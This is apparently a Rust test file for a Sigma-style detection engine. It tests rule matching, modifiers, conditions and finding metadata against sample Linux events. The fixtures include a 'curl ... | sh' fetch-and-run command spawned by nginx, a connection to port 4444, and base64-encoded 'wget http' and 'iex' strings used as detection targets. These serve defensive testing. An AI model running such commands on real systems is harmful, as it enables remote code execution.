//! The language, as data: a rule, an event, and whether one matches the other; a rule and what is wrong with it.

use crate::{Engine, Finding, RuleFile, trial};

/// A rule around a `detection`, for any event of a Linux host.
fn rule(detection: &str) -> String {
    let indented: String = detection.lines().map(|line| format!("  {line}\n")).collect();
    format!("title: T\nid: t\nlogsource: {{product: linux}}\ndetection:\n{indented}")
}

fn load(text: &str) -> crate::Loaded {
    Engine::load(&[RuleFile { path: "t.yml".to_owned(), text: text.to_owned() }])
}

fn findings(rule: &str, event: &str) -> Vec<Finding> {
    let mut loaded = load(rule);
    assert!(loaded.errors.is_empty(), "{rule}\n{}", loaded.errors[0]);
    let events = trial::ordinary(&format!("- {event}")).unwrap_or_else(|error| panic!("{event}: {error:?}"));
    let mut findings = Vec::new();
    events.iter().for_each(|event| loaded.engine.observe(event, &mut findings));
    findings
}

const EXEC: &str = "{event.action: exec, Image: /usr/bin/Bash, CommandLine: \"bash -c 'curl -s http://198.51.100.7/x | sh'\", \
                    ParentImage: /usr/sbin/nginx, user.name: www-data, process.pid: 77}";
const CONNECT: &str =
    "{event.action: connect, Image: /tmp/x, user.name: bob, destination.ip: 203.0.113.9, destination.port: 4444}";
const LOG: &str = "{event.action: log, program: sshd, message: 'error: maximum authentication attempts exceeded'}";

#[test]
fn what_matches_and_what_does_not() {
    for (selection, event, expected) in [
        // Equality folds the case of letters; cased does not.
        ("s: {Image: /usr/bin/bash}", EXEC, true),
        ("s: {Image|cased: /usr/bin/bash}", EXEC, false),
        ("s: {Image|cased: /usr/bin/Bash}", EXEC, true),
        ("s: {process.executable: /usr/bin/bash}", EXEC, true),
        ("s: {Image: /usr/bin/bas}", EXEC, false),
        ("s: {Image: '*/bash'}", EXEC, true),
        ("s: {Image: '/usr/bin/????'}", EXEC, true),
        ("s: {Image|endswith: /bash}", EXEC, true),
        ("s: {Image|endswith|cased: /bash}", EXEC, false),
        ("s: {Image|startswith: /USR/}", EXEC, true),
        ("s: {Image|contains: [nothing, bin]}", EXEC, true),
        ("s: {CommandLine|contains|all: [curl, '| sh']}", EXEC, true),
        ("s: {CommandLine|contains|all: [curl, wget]}", EXEC, false),
        ("s: {CommandLine|contains: 'curl * | sh'}", EXEC, true),
        // A map is and, a list of maps is or.
        ("s: {Image|endswith: /bash, ParentImage|endswith: /nginx}", EXEC, true),
        ("s: {Image|endswith: /bash, ParentImage|endswith: /sshd}", EXEC, false),
        ("s: [{Image|endswith: /zsh}, {ParentImage|endswith: /nginx}]", EXEC, true),
        // Null, empty, exists.
        ("s: {container.id: null}", EXEC, true),
        ("s: {Image: null}", EXEC, false),
        ("s: {Image: ''}", EXEC, false),
        ("s: {container.id|exists: false}", EXEC, true),
        ("s: {container.id|exists: true}", EXEC, false),
        ("s: {container.id: [null, abc]}", EXEC, true),
        ("s: {container.id: '*'}", EXEC, false),
        ("s: {Image: '*'}", EXEC, true),
        // Numbers, flags, addresses.
        ("s: {process.pid: 77}", EXEC, true),
        ("s: {process.pid: [1, 2]}", EXEC, false),
        ("s: {process.pid|gte: 77, ProcessId|lt: 78}", EXEC, true),
        ("s: {process.pid|gt: 77}", EXEC, false),
        ("s: {process.pid|lte: 76}", EXEC, false),
        ("s: {process.pid|startswith: 7}", EXEC, true),
        ("s: {bongsu.process.memfd: false}", EXEC, true),
        ("s: {bongsu.process.memfd: true}", EXEC, false),
        ("s: {bongsu.process.memfd: false}", CONNECT, false),
        ("s: {DestinationIp: 203.0.113.9, dst_port: 4444}", CONNECT, true),
        ("s: {DestinationIp|cidr: [10.0.0.0/8, 203.0.113.0/24]}", CONNECT, true),
        ("s: {DestinationIp|cidr: 10.0.0.0/8}", CONNECT, false),
        ("s: {DestinationIp: '203.0.*'}", CONNECT, true),
        ("s: {DestinationIp|startswith: '203.'}", CONNECT, true),
        // Regular expressions are not anchored and heed case unless told otherwise.
        ("s: {Image|re: 'B.sh$'}", EXEC, true),
        ("s: {Image|re: 'b.sh$'}", EXEC, false),
        ("s: {Image|re|i: '^/USR/.*sh$'}", EXEC, true),
        ("s: {Image|re: ['x', 'usr']}", EXEC, true),
        ("s: {Image|re|all: ['usr', 'zsh']}", EXEC, false),
        // Other modifiers.
        ("s: {CommandLine|windash|contains: ' /c '}", EXEC, true),
        ("s: {CommandLine|contains: ' /c '}", EXEC, false),
        ("s: {Image|neq: /usr/bin/zsh}", EXEC, true),
        ("s: {Image|neq: [/usr/bin/zsh, /usr/bin/bash]}", EXEC, false),
        ("s: {Image|endswith|neq: /bash}", EXEC, false),
        ("s: {ParentImage|fieldref: Image}", EXEC, false),
        ("s: {user.effective.name|fieldref: user.name}", EXEC, true),
        // Keywords look inside every text of the event, and nowhere in our own words.
        ("s: [maximum authentication, nothing]", LOG, true),
        ("s: ['max*exceeded']", LOG, true),
        ("s: {'|all': [maximum, exceeded]}", LOG, true),
        ("s: {'|all': [maximum, nothing]}", LOG, false),
        ("s: [host-that-is-not-there, sample]", LOG, false),
        ("s: [CURL]", EXEC, true),
        ("s: maximum", LOG, true),
        ("s: [{program: sshd}, nothing]", LOG, true),
    ] {
        let text = rule(&format!("{selection}\ncondition: s"));
        assert_eq!(findings(&text, event).len(), usize::from(expected), "{selection} on {event}");
    }
}

#[test]
fn encoded_commands_are_found() {
    let hidden = |command: &str| format!("{{event.action: exec, Image: /bin/sh, CommandLine: 'echo {command}'}}");
    // "wget http" behind one byte, in base64; then "iex" in UTF-16 in base64.
    let text = rule("s: {CommandLine|base64offset|contains: wget http}\ncondition: s");
    assert_eq!(findings(&text, &hidden("eHdnZXQgaHR0cDovLw==")).len(), 1);
    assert_eq!(findings(&text, &hidden("eHdnZXQgZnRwOi8v")).len(), 0);
    let text = rule("s: {CommandLine|wide|base64offset|contains: iex}\ncondition: s");
    assert_eq!(findings(&text, &hidden("aQBlAHgA")).len(), 1);
    let text = rule("s: {CommandLine|base64|contains: wget}\ncondition: s");
    assert_eq!(findings(&text, &hidden("d2dldA==")).len(), 1);
}

#[test]
fn conditions_join_selections() {
    let selections = "sel: {Image|endswith: /bash}\nfilter_a: {user.name: root}\nfilter_b: {user.name: www-data}\n";
    for (condition, expected) in [
        ("condition: sel", true),
        ("condition: sel and not 1 of filter_*", false),
        ("condition: sel and not filter_a", true),
        ("condition: sel and not all of filter_*", true),
        ("condition: all of them", false),
        ("condition: [filter_a, sel and filter_b]", true),
        ("condition: [filter_a, sel and filter_a]", false),
    ] {
        let text = rule(&format!("{selections}{condition}"));
        assert_eq!(findings(&text, EXEC).len(), usize::from(expected), "{condition}");
    }
}

#[test]
fn a_logsource_narrows_to_its_events() {
    for (source, event, expected) in [
        ("{product: linux, category: process_creation}", EXEC, true),
        ("{category: process_creation}", EXEC, true),
        ("{product: linux, category: network_connection}", EXEC, false),
        ("{product: linux, category: network_connection}", CONNECT, true),
        ("{product: linux, service: sshd}", LOG, true),
        ("{product: linux, service: auth}", LOG, true),
        ("{product: linux, service: sudo}", LOG, false),
        ("{product: linux, service: sshd}", CONNECT, false),
    ] {
        let text =
            format!("title: T\nid: t\nlogsource: {source}\ndetection:\n  s: {{event.action: '*'}}\n  condition: s\n");
        assert_eq!(findings(&text, event).len(), usize::from(expected), "{source} on {event}");
    }
}

#[test]
fn a_finding_says_who_what_and_why() {
    let text = "title: Shell under a web server\nname: web_shell\nlevel: high\n\
        tags: [attack.execution, attack.t1059.004, attack.T1505.003, cve.2021-44228]\n\
        logsource: {product: linux, category: process_creation}\n\
        detection:\n  shell: {Image|endswith: [/sh, /bash]}\n  web: {process.parent.name: [nginx, apache2]}\n  \
        filter: {user.name: root}\n  condition: shell and web and not filter\n\
        bongsu: {evidence: true, confidence: 80}\n";
    let findings = findings(text, EXEC);
    let [finding] = findings.as_slice() else { panic!("{findings:?}") };
    assert_eq!(finding.rule, "web_shell");
    assert_eq!(finding.techniques, ["T1059.004", "T1505.003"]);
    assert_eq!((finding.severity.as_str(), finding.confidence), ("high", 80));
    assert_eq!(finding.reasons, ["process.executable ends with /bash: /usr/bin/Bash", "process.parent.name is nginx"]);
    let wish = finding.wants_evidence.as_ref().unwrap();
    assert_eq!((wish.process.pid, &wish.path[..]), (77, &b"/usr/bin/Bash"[..]));
    assert_eq!(finding.id, crate::FindingId::new("web_shell", b"", &finding.events));
    let users: Vec<_> = finding.entities.iter().filter(|entity| matches!(entity, crate::Entity::User(_))).collect();
    assert_eq!(users, [&crate::Entity::User("www-data".into())]);
}

#[test]
fn every_mistake_is_named_with_its_place() {
    let errors = |text: &str| load(text).errors.iter().map(ToString::to_string).collect::<Vec<_>>().join("\n");
    insta::assert_snapshot!("mistakes", errors(include_str!("tests/mistakes.yml")));
}

#[test]
fn a_bad_rule_disables_no_other() {
    let good = rule("s: {Image: x}\ncondition: s");
    let bad = rule("s: {Imago: x}\ncondition: s").replace("id: t", "id: u");
    let loaded = load(&format!("{bad}---\n{good}---\n: : [\n---\n{}", good.replace("id: t", "id: v")));
    assert_eq!((loaded.rule_count, loaded.errors.len()), (2, 2));
    let twice = load(&format!("{good}---\n{good}"));
    assert_eq!((twice.rule_count, twice.errors.len()), (1, 1));
}

#[test]
fn quiet_rules_match_without_a_finding() {
    let text = format!("{}bongsu: {{quiet: true}}\n", rule("s: {Image: '*'}\ncondition: s"));
    assert!(findings(&text, EXEC).is_empty());
}
